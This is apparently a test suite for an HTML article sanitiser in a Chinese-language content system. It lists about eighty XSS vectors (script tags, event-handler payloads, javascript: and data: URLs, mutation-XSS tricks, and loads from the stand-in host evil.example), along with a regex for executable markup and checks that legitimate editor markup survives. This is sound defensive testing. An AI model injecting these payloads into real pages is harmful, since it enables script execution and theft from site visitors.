import { sanitizeArticle } from '@/lib/domain/article/sanitize';
import { textOfHtml } from '@/lib/domain/article/text-of-html';

/** Anything that could run: elements, handlers, script addresses. */
const LIVE =
  /<(?!\/?(p|div|h[2-6]|blockquote|pre|ul|ol|li|dl|dt|dd|a|span|strong|b|em|i|u|s|del|ins|sub|sup|mark|code|br|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td|hr|img|figure|figcaption|video|audio|source)[\s/>])[a-z!/?]|\son\w+\s*=|(href|src|poster)\s*=\s*["']?\s*(javascript|data|vbscript)/i;

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a.png" onload="alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src=/a.png srcset="https://evil.example/x 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x01;javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://user@evil.example">x</a>',
  '<a href="/ok" onclick=alert(1) onmouseover="alert(1)" target=_self rel=opener>x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="color:red;position:fixed;inset:0">x</p>',
  '<p style="background-image:url(https://evil.example)">x</p>',
  '<div style="font-size:999px">x</div>',
  '<p class="admin btn danger">x</p>',
  '<p id="main" name="cookie">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example"><input name=a><button formaction=javascript:alert(1)>x</button></form>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<video src="javascript:alert(1)" onerror=alert(1) poster="javascript:alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<a title="</a><script>alert(1)</script>" href="/x">x</a>',
  '<img alt="</p><script>alert(1)</script>" src="/files/a.png">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '＜script＞alert(1)＜/script＞',
  '<p>\u2028<img src=x\u2028onerror=alert(1)></p>',
  '<img/src/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<font color="expression(alert(1))">x</font>',
  '<center onclick=alert(1)>x</center>',
  '<a href="mailto:a@b.cn?body=<script>alert(1)</script>">x</a>',
];

describe('S-34 the sanitiser', () => {
  it.each(vectors)('leaves nothing that could run of %j', (dirty) => {
    const clean = sanitizeArticle(dirty);
    expect(clean).not.toMatch(LIVE);
    expect(clean).not.toMatch(/(src|href|action|url)\s*[=(]\s*["']?[^"'>]*evil\.example/);
    expect(clean).not.toMatch(/expression|position:|url\(|\sid=|\sname=|srcset|rel="opener"/);
  });

  it.each(vectors)('has nothing left to do the second time for %j', (dirty) => {
    const once = sanitizeArticle(dirty);
    expect(sanitizeArticle(once)).toBe(once);
  });

  it('survives very deep nesting', () => {
    expect(sanitizeArticle('<div>'.repeat(20_000)).length).toBeLessThan(2000);
  });

  it.each([
    ['paragraph style', '<p style="text-align:center;text-indent:2em;line-height:1.75">保密</p>'],
    [
      'colours and sizes',
      '<span style="color:#c90000;background-color:rgb(255, 255, 0);font-size:18px">重点</span>',
    ],
    ['editor styles', '<h2 class="tc">标题</h2><p><span class="im">强调</span></p>'],
    ['lists', '<ol start="3"><li>一</li></ol><ul><li>二</li></ul>'],
    [
      'tables',
      '<table width="100%" interlaced="enabled" class="ue-table-interlace-color-single"><tbody><tr><td colspan="2" width="80">格</td></tr></tbody></table>',
    ],
    [
      'tables of the editor',
      '<table interlaced="enabled" class="noBorderTable" data-sort-type="orderbynum" width="80%" align="center"><caption>附表</caption><colgroup><col width="80" /><col /></colgroup><tbody><tr class="firstRow"><td style="background-color:#f7faff;vertical-align:middle">格</td></tr></tbody></table>',
    ],
    [
      'own pictures',
      '<figure><img src="/files/a1.webp" alt="图" width="800" height="450" loading="lazy" /><figcaption>说明</figcaption></figure>',
    ],
    [
      'own links',
      '<a href="/index/details/3">相关</a><a href="#note-1">注</a><a href="tel:010-12345">电话</a>',
    ],
    ['attachments', '<a href="/files/a.pdf" title="通知.pdf" class="file-link">通知.pdf（1.2 MB）</a>'],
    ['fonts', '<span style="font-family:FangSong, STFangsong, 仿宋_GB2312, serif">字</span>'],
    [
      'pictures with the text around them',
      '<figure style="float:left"><img src="/files/a.webp" alt="" loading="lazy" style="float:right" /></figure>',
    ],
    ['film', '<video controls preload="metadata" src="/files/v.mp4" width="420" height="280"></video>'],
  ])('keeps wanted markup: %s', (_name, html) => {
    expect(sanitizeArticle(html)).toBe(html);
  });

  it.each([
    ['a class of nobody on a link', '<a class="btn" href="/x">x</a>', '<a href="/x">x</a>'],
    ['a float of words', '<p style="float:left">x</p>', '<p>x</p>'],
    ['a font by address', '<span style="font-family:url(//evil.example/f)">x</span>', '<span>x</span>'],
    ['a font in quotes', `<span style="font-family:'a';}x">x</span>`, '<span>x</span>'],
  ])('drops %s', (_name, html, clean) => {
    expect(sanitizeArticle(html)).toBe(clean);
  });

  it('drops values of table attributes that nobody writes', () => {
    expect(
      sanitizeArticle('<table data-sort-type="x" align="top"><tbody><tr><td>格</td></tr></tbody></table>'),
    ).toBe('<table data-sort-type align><tbody><tr><td>格</td></tr></tbody></table>');
  });

  it('opens links out apart and says so', () => {
    expect(sanitizeArticle('<a href="https://www.example.cn/a?b=1&c=2" target="_top">看</a>')).toBe(
      '<a href="https://www.example.cn/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">看</a>',
    );
  });

  it('turns what old editors wrote into what ours knows', () => {
    expect(sanitizeArticle('<h1>题</h1><center>中</center><font color="#c90000">红</font>')).toBe(
      '<h2>题</h2><p style="text-align:center">中</p><span style="color:#c90000">红</span>',
    );
  });
});

describe('textOfHtml', () => {
  it('gives one line per block and decodes entities', () => {
    expect(
      textOfHtml(sanitizeArticle('<h2>甲 &amp; 乙</h2><p>1 &lt; 2<br>三&nbsp;四</p><ul><li>五</li></ul>')),
    ).toBe('甲 & 乙\n1 < 2\n三 四\n五');
  });

  it('does not decode twice', () => {
    expect(textOfHtml(sanitizeArticle('<p>&amp;lt;b&amp;gt;</p>'))).toBe('&lt;b&gt;');
  });
});

describe('half a megabyte of elements', () => {
  it.each(['<b>', '<div>', '<table>', '<zzz>'])('refuses %s that is never closed', (tag) => {
    expect(() => sanitizeArticle(tag.repeat(70_000))).toThrow('没有结束的标签');
  });

  it.each(['<p>一</p>', '<p><br>', '<img src="/files/a.png" alt="">'])('takes %s as before', (piece) => {
    expect(sanitizeArticle(piece.repeat(4000))).not.toBe('');
  });
});
